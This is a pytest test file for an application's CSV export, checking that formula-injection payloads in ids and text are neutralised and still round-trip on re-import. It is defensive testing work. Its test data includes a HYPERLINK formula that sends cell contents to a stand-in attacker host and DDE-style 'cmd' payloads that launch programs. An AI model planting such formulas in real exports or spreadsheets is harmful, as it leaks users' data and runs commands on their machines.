"""Attacks through exports (issue 16): a formula in an id or a text leaves every CSV Stillroom writes (and every
table the Data page hands Streamlit, whose toolbar downloads it as CSV) inert; a lone carriage return cannot split
a holdout row in two; an id the export neutralised (``'=ID0``) is the same id when a team sends it back."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from click.testing import CliRunner
from data_helpers import csv_bytes, routing, ticket_rows
from pages_helpers import app_as
from teacher_helpers import make_dataset

from core.cli import cli
from core.data import holdout
from core.domain import textsafe
from core.evaluation import imports, runs
from core.gate import gate
from core.store.config import get_settings
from core.teacher import runs as teacher_runs

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
BARE = "=2+5*cmd|' /C calc'!A0"  # a formula without a comma or a double quote: nothing else makes CSV quote it


def _cells(data: bytes) -> list[list[str]]:
    """The records a spreadsheet reads from CSV bytes (quotes honoured, any line ending)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _live(cell: str) -> bool:
    """A cell a spreadsheet would run as a formula."""
    return textsafe.formula_safe(cell) != cell


def test_known_records_export_neutralises_a_formula_in_an_id(session, demo, tmp_path):
    outputs = pd.DataFrame({"id": [FORMULA, "@SUM(1+1)*cmd", "T1"],
                            "output": [json.dumps({"total": "12"}), json.dumps({"total": "3"}), "{}"]})
    outputs.to_json(tmp_path / "t.jsonl", orient="records", lines=True)
    pd.DataFrame({"id": ["T9"], "total": ["1"]}).to_csv(tmp_path / "known.csv", index=False)
    out = tmp_path / "kept.csv"
    get_settings.cache_clear()
    done = CliRunner().invoke(cli, ["--as", "dana", "teacher", "known-records", routing(session).name,
                                    str(tmp_path / "t.jsonl"), str(tmp_path / "known.csv"), "--out", str(out)])
    assert done.exit_code == 0, done.output
    rows = _cells(out.read_bytes())
    assert len(rows) == 4 and rows[1][0] == "'" + FORMULA
    assert not [c for row in rows for c in row if _live(c)]


def test_the_data_page_preview_hands_streamlit_no_live_formula(demo, session):
    rows = ticket_rows(5)
    rows[0]["body"], rows[1]["ticket_id"], rows[2]["queue"] = FORMULA, "@SUM(1+1)*cmd", "+CMD|' /C calc'!A0"
    at = app_as(demo["dana"], page="pages/import_data.py", project_id=routing(session).id)
    at.file_uploader[0].upload("tickets.csv", csv_bytes(rows), "text/csv").run()
    shown = at.dataframe[0].value  # the frame Streamlit was given: what its toolbar's CSV download writes
    cells = [str(v) for v in shown.to_numpy().ravel()]
    assert "'" + FORMULA in cells and not [c for c in cells if _live(c)]


@pytest.fixture
def held_with_carriage_returns(session, demo):
    """A holdout whose texts hold a lone CR followed by a formula (imported from JSONL, which keeps it)."""
    df = pd.DataFrame({"id": [f"T{i:03d}" for i in range(20)],
                       "text": [f"ticket {i} is late\r{BARE}" for i in range(20)],
                       "reference": ["billing", "refund"] * 10, "queue": ["billing", "refund"] * 10})
    project = routing(session)
    ds = make_dataset(session, actor=demo["dana"], project=project, df=df)
    holdout.fix_holdout(session, actor=demo["dana"], project=project, dataset_id=ds.id, n=10, seed=1)
    return project


def test_a_lone_carriage_return_stays_inside_its_holdout_row(session, held_with_carriage_returns):
    project = held_with_carriage_returns
    data = holdout.export_holdout(session, project=project, fmt="csv")
    rows = _cells(data)
    assert len(rows) == 1 + 10 and all(len(r) == 2 for r in rows)
    assert not [c for row in rows for c in row if _live(c)]
    back = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    held = holdout.holdout_rows(session, project_id=project.id)
    assert sorted(back["text"]) == sorted(held["text"])  # every CR kept where it was, inside the text


@pytest.fixture
def formula_ids(session, demo, tmp_path):
    """A routing project whose ids look like formulas (=ID0, ...), with a holdout, a teacher and a locked gate."""
    from eval_helpers import easy_gate
    from eval_helpers import ticket_rows as eval_rows
    from teacher_helpers import LABELS

    project = routing(session)
    df = eval_rows(60).assign(id=lambda d: [f"=ID{i}" for i in range(len(d))])
    ds = make_dataset(session, actor=demo["dana"], project=project, df=df)
    holdout.fix_holdout(session, actor=demo["dana"], project=project, dataset_id=ds.id, fraction=0.2,
                        stratify_by=["queue"])
    teacher = pd.DataFrame({"id": df["id"], "label": df["queue"],
                            **{f"prob_{x}": (df["queue"] == x).map({True: 0.9, False: 0.05}) for x in LABELS}})
    teacher.to_csv(tmp_path / "teacher.csv", index=False)
    teacher_runs.import_file(session, actor=demo["dana"], project=project, dataset_id=ds.id,
                             path=tmp_path / "teacher.csv")
    gate.lock(session, actor=demo["sam"], project=project, spec=easy_gate(), reason="ids that look like formulas")
    return project


def test_an_id_the_export_quoted_imports_back_as_the_same_id(session, demo, formula_ids, tmp_path):
    exported = pd.read_csv(io.BytesIO(holdout.export_holdout(session, project=formula_ids, fmt="csv")), dtype=str)
    assert exported["id"].str.startswith("'=ID").all()  # as a team's script reads the file
    held = holdout.holdout_rows(session, project_id=formula_ids.id).set_index("id")
    answers = exported.assign(student=exported["id"].map(lambda q: held.at[textsafe.unquote_formula(q), "queue"]))
    answers.to_csv(tmp_path / "preds.csv", index=False)
    ev = imports.import_predictions(session, actor=demo["dana"], project=formula_ids, path=tmp_path / "preds.csv")
    report = runs.load_report(session, ev)
    assert report.part("coverage")["missing"] == 0 and report.student.accuracy == 1.0


@pytest.mark.parametrize("text", ["=ID0", "@x", " -cmd", "\t=1", "\uff1dSUM(1)", "plain", "'quoted", "-2.5"])
def test_unquoting_undoes_exactly_what_the_export_quoted(text):
    assert textsafe.unquote_formula(textsafe.formula_safe(text)) == text


def test_teacher_outputs_matched_on_the_exported_ids_land_on_the_same_rows(session, demo, tmp_path):
    from teacher_helpers import LABELS

    from core.data import datasets

    project = routing(session)
    df = pd.DataFrame({"id": ["=ID0", "@ID1", "T2"], "text": ["a", "b", "c"], "reference": LABELS,
                       "queue": LABELS})
    ds = make_dataset(session, actor=demo["dana"], project=project, df=df)
    exported = pd.read_csv(io.BytesIO(datasets.ids_csv(session, project=project, dataset_id=ds.id)), dtype=str)
    assert exported["id"].tolist() == ["'=ID0", "'@ID1", "T2"]
    exported.assign(label=LABELS).to_csv(tmp_path / "made-elsewhere.csv", index=False)
    run = teacher_runs.import_file(session, actor=demo["dana"], project=project, dataset_id=ds.id,
                                   path=tmp_path / "made-elsewhere.csv")
    assert sorted(teacher_runs.load_outputs(session, run)["id"]) == ["=ID0", "@ID1", "T2"]


def test_every_page_table_goes_through_the_formula_safe_helper():
    """Streamlit's table toolbar downloads what the table was given: a page that calls ``st.dataframe`` itself
    hands it raw text, so only ``pages._show.table`` may."""
    import ast
    from pathlib import Path

    pages = Path(__file__).resolve().parents[2] / "pages"
    raw = []
    for path in sorted(pages.glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            # On st or on any container (a column's ``c2.dataframe(...)`` bypassed it as surely as st's did).
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in {"dataframe", "data_editor", "table"}):
                raw.append(f"{path.name}:{node.lineno}")
    # One call, inside pages._show.table itself.
    assert [r.split(":")[0] for r in raw] == ["_show.py"], f"tables that bypass pages._show.table: {raw}"
